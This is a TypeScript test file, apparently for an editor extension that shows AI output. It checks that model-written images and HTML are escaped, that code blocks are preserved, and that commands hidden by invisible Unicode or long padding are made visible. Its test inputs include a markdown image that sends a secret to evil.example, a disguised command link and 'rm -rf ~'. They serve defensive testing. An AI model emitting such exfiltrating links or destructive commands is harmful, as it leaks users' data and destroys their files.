import assert from "node:assert/strict";
import { test } from "node:test";
import { code, dim, escape, harmless } from "../../src/markdown";
import { visible } from "../../src/visible";

test("pictures and HTML of a model are shown as text, and fetch nothing", () => {
  assert.equal(harmless("![x](https://evil.example/?q=secret) <img src=x> <b>"), "!\\[x](https://evil.example/?q=secret) &lt;img src=x> &lt;b>");
  assert.equal(harmless("a Vec<String>, 1 < 2"), "a Vec&lt;String>, 1 < 2");
  assert.equal(harmless("</span><!-- -->"), "&lt;/span>&lt;!-- -->");
});

test("code stays as it is", () => {
  for (const text of ["`Vec<String>` and ``a`<b>``", "```html\n<b>![x](y)</b>\n```\n", "~~~\n<b>\n", "````\n```\n<b>\n````"]) assert.equal(harmless(text), text);
  assert.equal(harmless("```\n<b>\n```\n<b>"), "```\n<b>\n```\n&lt;b>");
  assert.equal(harmless("a ` b <b>\n\nc ` <i>"), "a ` b &lt;b>\n\nc ` &lt;i>", "a span of code ends within its paragraph");
});

test("a partial answer is dimmed also when it ends in a block of code", () => {
  assert.equal(dim("text\n```go\nfunc"), '<span style="color:var(--vscode-disabledForeground);">\n\ntext\n```go\nfunc\n```\n\n</span>');
});

test("what the user and others said is no markdown", () => {
  assert.equal(escape("*a* _b_ [c](d) `e`"), "\\*a\\* \\_b\\_ \\[c\\]\\(d\\) \\`e\\`");
  assert.equal(code("a `b` c"), "``a `b` c``");
  assert.equal(code("`a"), "`` `a ``");
});

test("a command in a message hides nothing and links to nothing", () => {
  assert.equal(visible("rm -rf x\u202e\u0007\n# \u200bok"), "rm -rf x\\u{202e}\\u{7}⏎# \\u{200b}ok");
  assert.ok(!/\]\(/.test(visible("[Allow](command:workbench.action.quit)")));
  const long = visible("a".repeat(700) + "; rm -rf ~");
  assert.ok(long.endsWith("; rm -rf ~") && [...long].length < 650);
});
